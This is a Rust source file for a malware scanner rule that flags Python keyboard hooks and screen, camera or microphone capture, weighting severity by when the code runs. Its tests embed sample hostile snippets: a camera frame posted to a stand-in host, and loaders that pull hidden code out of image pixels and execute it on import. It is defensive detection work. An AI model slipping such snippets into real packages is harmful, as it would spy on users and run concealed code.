//! WH210 surveillance: keystroke hooks and screen, camera or microphone capture.

use ruff_python_ast::ExprCall;
use ruff_text_size::Ranged;

use crate::finding::{Category, ExecContext, Rule};
use crate::walker::Checker;

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH210",
    name: "surveillance",
    description: "Hooks the keyboard, or captures the screen, the camera or the microphone",
    rationale: "Keyloggers and remote-access trojans record what the user types and sees. \
                Automation and vision libraries use the same calls when asked to, so at run \
                time this weighs little on its own; loading code that starts a keyboard hook \
                weighs much more, and a package that both watches the user and plants itself in \
                an autostart location is a trojan (package combination \
                `combo:surveillance-with-persistence`).",
    category: Category::Source,
};

/// What a call captures, with whether it is a keyboard hook (the stronger evidence).
fn captures(qualname: &str) -> Option<(&'static str, bool)> {
    Some(match qualname {
        "pynput.keyboard.Listener"
        | "pynput.keyboard.Events"
        | "keyboard.on_press"
        | "keyboard.on_release"
        | "keyboard.hook"
        | "keyboard.record"
        | "pyHook.HookManager"
        | "pyWinhook.HookManager"
        | "pyxhook.HookManager" => ("keystrokes", true),
        "win32api.GetAsyncKeyState" | "ctypes.windll.user32.GetAsyncKeyState" => {
            ("keystrokes", true)
        }
        "PIL.ImageGrab.grab" | "ImageGrab.grab" | "pyautogui.screenshot" | "pyscreenshot.grab" => {
            ("the screen", false)
        }
        "mss.mss" | "mss.mss().grab" | "mss.mss().shot" => ("the screen", false),
        "cv2.VideoCapture" => ("the camera", false),
        "sounddevice.rec" | "pyaudio.PyAudio().open" => ("the microphone", false),
        _ => return None,
    })
}

/// Capture calls.
pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    let Some((what, keyboard)) = captures(qualname) else {
        return;
    };
    let context = checker.context();
    let severity = match (context, keyboard) {
        (ExecContext::Install | ExecContext::Import, true) => 0.45,
        (ExecContext::Install | ExecContext::Import, false) => 0.25,
        (ExecContext::Runtime, true) => 0.1,
        (ExecContext::Runtime, false) => 0.03,
        (ExecContext::TestOrDocs, _) => 0.01,
    };
    checker.report(
        &RULE,
        call.range(),
        format!("captures {what} with {qualname} {}", context.phrase()),
        severity,
        vec![
            "surveillance",
            if keyboard { "keylogger" } else { "capture" },
        ],
    );
}

#[cfg(test)]
mod tests {
    #[test]
    fn camera_frames_and_hidden_image_data_are_sources() {
        let camera = "import cv2, requests\ncam = cv2.VideoCapture(0)\nok, frame = cam.read()\n_, jpg = cv2.imencode('.jpg', frame)\nrequests.post('https://example.invalid/up', files={'f': jpg.tobytes()})\n";
        assert!(max_severity("p/pkg/__init__.py", camera, "WH200") >= 0.7);
        let stego = "import os\nfrom PIL import Image\nimg = Image.open(os.path.join(os.path.dirname(__file__), 'logo.png'))\nbits = ''.join(str(p[0] & 1) for p in img.getdata())\ncode = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))\nexec(code.decode())\n";
        assert!(max_severity("p/pkg/__init__.py", stego, "WH110") >= 0.8);
        let revealed = "from stegano import lsb\nexec(lsb.reveal('logo.png'))\n";
        assert!(max_severity("p/pkg/__init__.py", revealed, "WH110") >= 0.8);
        // Pixels counted, not run.
        let histogram = "from PIL import Image\ncounts = {}\nfor p in Image.open('a.png').getdata():\n    counts[p] = counts.get(p, 0) + 1\n";
        assert_eq!(max_severity("p/pkg/__init__.py", histogram, "WH110"), 0.0);
    }

    use crate::rules::testing::{findings, max_severity};

    #[test]
    fn keyboard_hooks_while_loading_weigh_more_than_when_called() {
        let early = "from pynput.keyboard import Listener\nListener(on_press=print).start()\n";
        assert!(max_severity("p/pkg/mod.py", early, "WH210") >= 0.4);
        let later = "from pynput.keyboard import Listener\ndef watch(cb):\n    Listener(on_press=cb).start()\n";
        let severity = max_severity("p/pkg/mod.py", later, "WH210");
        assert!((0.05..0.2).contains(&severity), "{severity}");
    }

    #[test]
    fn screenshots_are_weak_and_plain_code_is_nothing() {
        let grab = "from PIL import ImageGrab\ndef shot():\n    return ImageGrab.grab()\n";
        assert!(max_severity("p/pkg/mod.py", grab, "WH210") < 0.05);
        let plain = "import keyboard_layouts\ndef f(x):\n    return x\n";
        assert!(
            findings("p/pkg/mod.py", plain)
                .iter()
                .all(|f| f.rule != "WH210")
        );
    }
}
